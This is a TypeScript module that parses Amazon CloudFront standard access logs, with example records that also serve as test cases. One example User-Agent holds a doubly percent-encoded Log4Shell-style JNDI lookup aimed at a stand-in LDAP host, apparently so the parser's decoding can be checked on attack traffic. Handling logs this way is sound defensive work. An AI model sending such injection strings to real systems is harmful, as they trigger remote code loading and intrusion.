import { percent } from '../layers/percent.ts'
import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import { columnsOf, Row } from './columns.ts'
import type { LogFormat } from './format.ts'

/** The first of the columns, which have stayed as they are; those of later releases follow. */
const standard =
  'date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie)'.split(
    ' ',
  )

/** Standard logs of CloudFront: tabs between columns; texts of clients are percent-encoded, once or twice. */
export const cloudfront: LogFormat = {
  id: 'cloudfront',
  summary: 'standard logs of Amazon CloudFront, with or without their directives; texts of clients encoded twice',
  definedBy: 'https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/standard-logs-reference.html',
  examples: {
    reads: [
      {
        record:
          '2021-12-12\t04:25:41\tFRA56-P1\t392\t203.0.113.9\tGET\td111111abcdef8.cloudfront.net\t/a.html\t200\t-\tMozilla/5.0%2520$%257Bjndi:ldap://x.example/a%257D\tq=1\t-\tHit\tSOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==\td111111abcdef8.cloudfront.net\thttps\t23\t0.001',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /a.html?q=1',
        userAgent: 'Mozilla/5.0 ${jndi:ldap://x.example/a}',
      },
      {
        columns: '#Fields: date time x-edge-location c-ip cs-method cs-uri-stem cs(User-Agent)',
        record: '2021-12-12\t04:25:41\tFRA56-P1\t2001:db8::9\tPOST\t/a\tcurl/7.79.1%20x',
        when: '2021-12-12T04:25:41Z',
        from: '2001:db8::9',
        request: 'POST /a',
        userAgent: 'curl/7.79.1 x',
      },
    ],
    refuses: [
      '#Fields: date time x-edge-location c-ip cs-method cs-uri-stem cs(User-Agent)',
      '2021-12-12\t04:25:41\tFRA56-P1\t392',
    ],
  },
  read({ text }, { columns, around }) {
    if (!/^\d{4}-\d\d-\d\d\t\d\d:\d\d:\d\d\t[A-Z]{3}\d/.test(text)) return null
    const values = text.split('\t')
    const named = columnsOf(columns, '#Fields:', ' ')
    const names = named?.length === values.length ? named : values.length >= standard.length ? standard : null
    if (names === null || !names.includes('x-edge-location')) return null
    const row = new Row(names, values)
    const from = addressOf(row.value('c-ip'))
    const method = row.value('cs-method')
    const stem = row.value('cs-uri-stem')
    if (from === null || method === null || stem === null) return null
    const query = row.value('cs-uri-query')
    const userAgent = row.value('cs(User-Agent)')
    return {
      when: readTime(`${row.value('date')} ${row.value('time')}`, around),
      from,
      request: `${method} ${stem}${query === null ? '' : `?${query}`}`,
      userAgent: userAgent === null ? null : percent.undo(percent.undo(userAgent)),
      fields: values.map((value, index) => ({ name: names[index] ?? null, value })),
    }
  },
}
